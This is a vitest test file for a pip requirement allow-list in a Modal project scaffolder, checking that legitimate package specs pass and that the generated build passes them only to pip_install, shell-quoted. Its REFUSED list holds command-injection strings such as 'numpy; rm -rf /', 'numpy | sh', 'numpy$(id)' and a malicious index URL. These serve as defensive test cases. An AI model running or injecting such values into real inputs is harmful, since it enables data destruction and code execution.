// The pip allow-list (issue 14 defect 9): VCS specs and version operators are legitimate, shell
// metacharacters without a PEP 508 meaning are not, and the generated image build never passes a
// requirement through a shell.
import { execFileSync } from 'node:child_process'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { PIP_PACKAGE_RE, scaffoldModalProject } from '../src/index.js'
import { cleanupTempDirs, FIXTURES, nodePackDir, tempDir } from './helpers.js'

afterAll(cleanupTempDirs)

const LEGITIMATE = [
  'numpy',
  'opencv-python-headless==4.10.0.84',
  'torch<3',
  'numpy>=1.26,<2',
  'scipy!=1.11.0',
  'pillow~=10.4',
  'diffusers[torch]>=0.30',
  'xformers==0.0.27.post2',
  'torch==2.4.1+cu121',
  'transformers==4.*',
  'segment-anything @ git+https://github.com/facebookresearch/segment-anything.git',
  'sam2@git+https://github.com/facebookresearch/sam2.git@2b90b9f',
  'git+https://github.com/openai/CLIP.git#egg=clip',
  'pkg @ git+https://github.com/a/b.git@v1.0#subdirectory=python&egg=pkg',
  'https://files.example.com/wheels/pkg-1.0-py3-none-any.whl',
]

const REFUSED = [
  'numpy; rm -rf /',
  'numpy && curl evil',
  'numpy | sh',
  'numpy > /etc/passwd',
  'numpy>/tmp/x;id',
  '<2',
  'numpy #comment',
  'numpy#x',
  'numpy$(id)',
  'numpy`id`',
  "numpy'",
  'numpy"',
  'numpy\\',
  'numpy\nid',
  'numpy (>=1)',
  'numpy*',
  'numpy; python_version < "3.11"',
  '--index-url=https://evil.example/simple',
  '-e git+https://github.com/a/b',
  'x @ file:///etc/passwd',
  'x @ http://plain.example/pkg.whl',
  'git+ssh://git@github.com/a/b.git',
  'git+https://github.com/a/b.git;id',
  'git+https://github.com/a/b.git#egg=x;id',
  'https://x.example/a b',
]

describe('pip requirement allow-list (defect 9)', () => {
  it.each(LEGITIMATE)('accepts %j', (spec) => expect(PIP_PACKAGE_RE.test(spec)).toBe(true))
  it.each(REFUSED)('refuses %j', (spec) => expect(PIP_PACKAGE_RE.test(spec)).toBe(false))

  it('the generated image passes requirements only to Image.pip_install, each one shell-quoted', async () => {
    const result = await scaffoldModalProject({
      workflow: join(FIXTURES, 'echo-prompt.json'),
      outDir: tempDir(),
      appName: 'pip-app',
      nodePackDir: nodePackDir(),
      pipPackages: LEGITIMATE,
    })
    // Python reads workflow.py: PIP_PACKAGES is a list literal of exactly our strings, and the name is
    // used nowhere but as `*PIP_PACKAGES` in a `.pip_install(...)` call (never in run_commands or an
    // f-string). Modal turns pip_install(*pkgs) into `python -m pip install {shlex.join(sorted(pkgs))}`;
    // splitting that the way /bin/sh does gives back each requirement as one literal word.
    const check = `
import ast, json, shlex, sys
tree = ast.parse(open(sys.argv[1]).read())
literal = None
uses = []
for node in ast.walk(tree):
    if isinstance(node, ast.Assign) and any(getattr(t, "id", None) == "PIP_PACKAGES" for t in node.targets):
        literal = ast.literal_eval(node.value)
    if isinstance(node, ast.Call) and getattr(node.func, "attr", None):
        for arg in node.args:
            if isinstance(arg, ast.Starred) and getattr(arg.value, "id", None) == "PIP_PACKAGES":
                uses.append(node.func.attr)
names = [n for n in ast.walk(tree) if isinstance(n, ast.Name) and n.id == "PIP_PACKAGES"]
line = "python -m pip install " + shlex.join(sorted(literal))
words = shlex.split(line)[4:]
print(json.dumps({"literal": literal, "uses": uses, "names": len(names), "words": words}))
`
    const out = JSON.parse(
      execFileSync('python3', ['-c', check, join(result.dir, 'workflow.py')], { encoding: 'utf8' }),
    ) as { literal: string[]; uses: string[]; names: number; words: string[] }
    expect(out.literal).toEqual(LEGITIMATE)
    expect(out.uses).toEqual(['pip_install'])
    expect(out.names).toBe(2) // the assignment and the one *PIP_PACKAGES
    expect(out.words).toEqual([...LEGITIMATE].sort())
  })
})
